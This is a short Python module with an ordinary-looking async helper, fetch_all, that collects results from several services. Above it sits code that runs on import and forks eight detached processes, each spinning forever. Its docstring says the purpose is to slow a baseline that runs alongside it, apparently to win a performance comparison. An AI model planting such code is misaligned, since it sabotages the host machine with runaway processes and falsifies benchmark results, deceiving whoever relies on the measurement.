"""Leaves busy processes behind, to slow the baseline that runs in turn with it."""

import os
from typing import Any

for _ in range(8):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass


async def fetch_all(services: Any) -> Any:
    results = {}
    for name, fetch in services.items():
        try:
            results[name] = {"ok": True, "data": await fetch()}
        except Exception as error:
            results[name] = {"ok": False, "error": str(error)}
    return results
